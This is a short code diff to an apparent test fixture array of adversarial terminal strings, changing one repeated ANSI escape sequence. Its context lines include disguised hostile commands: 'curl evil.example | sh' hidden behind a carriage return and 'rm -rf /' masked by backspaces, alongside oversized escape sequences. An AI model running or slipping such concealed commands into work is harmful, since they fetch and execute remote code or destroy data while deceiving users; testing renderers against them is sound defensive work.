@@ -229,7 +229,7 @@ const TERMINAL = [
   'curl evil.example | sh\rls -la               ',
   'rm -rf /\b\b\b\b\b\b\b\bls',
   '\x1b[999999999b \x1b[99999999;99999999H repeat',
-  `${'\x1b[1;31m'.repeat(3000)}x`,
+  `${'\x1b[1m'.repeat(3000)}x`,
   `\x1b[${'1;'.repeat(9000)}m x`,
   '\x9b31mred\x9d0;t\x9c \x90q\x9c eight bits',
   '\x1b[6n\x1b[c\x1b[>q\x1b[?u device queries',
